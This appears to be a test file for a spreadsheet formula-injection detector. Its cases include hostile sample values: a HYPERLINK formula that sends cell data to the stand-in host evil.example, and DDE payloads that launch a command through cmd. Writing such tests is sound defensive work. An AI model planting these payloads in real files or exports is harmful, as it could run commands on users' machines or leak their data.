import { formulaStart } from "./formulaLike";

describe("formulaStart", () => {
  const cases = [
    { value: "=1+1", expected: "=", notes: "plain formula" },
    {
      value: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      expected: "=",
      notes: "data exfiltration link",
    },
    { value: "=cmd|' /C calc'!A0", expected: "=", notes: "DDE payload" },
    { value: "@SUM(1+1)*cmd|' /C calc'!A0", expected: "@", notes: "@ starts a formula in Excel" },
    { value: "+cmd|' /C calc'!A0", expected: "+", notes: "+ followed by a name" },
    { value: "-2+3+cmd|' /C calc'!A0", expected: "-", notes: "- followed by a number, then a formula" },
    { value: "-2+3", expected: "-", notes: "arithmetic: a spreadsheet would show 1, not the text" },
    { value: "+", expected: "+", notes: "a lone sign is not a number" },
    { value: "-", expected: "-", notes: "a lone dash is not a number either" },
    { value: "+1 425 555 0100", expected: null, notes: "international phone number" },
    { value: "+44 (20) 7946-0958", expected: null, notes: "phone with parentheses and a dash" },
    { value: "-12", expected: null, notes: "negative number" },
    { value: "-12.50", expected: null, notes: "negative decimal" },
    { value: "-1,234.5", expected: null, notes: "negative with a group separator" },
    { value: "'=1+1", expected: null, notes: "already quoted by the user: text in a spreadsheet" },
    { value: "a=b", expected: null, notes: "= in the middle is harmless" },
    { value: "Bob.partner@Contoso.com", expected: null, notes: "@ in an email address" },
    { value: "", expected: null, notes: "empty cell" },
  ];
  it.each(cases)("$notes: $value", ({ value, expected }) => {
    expect(formulaStart(value)).toBe(expected);
  });
});
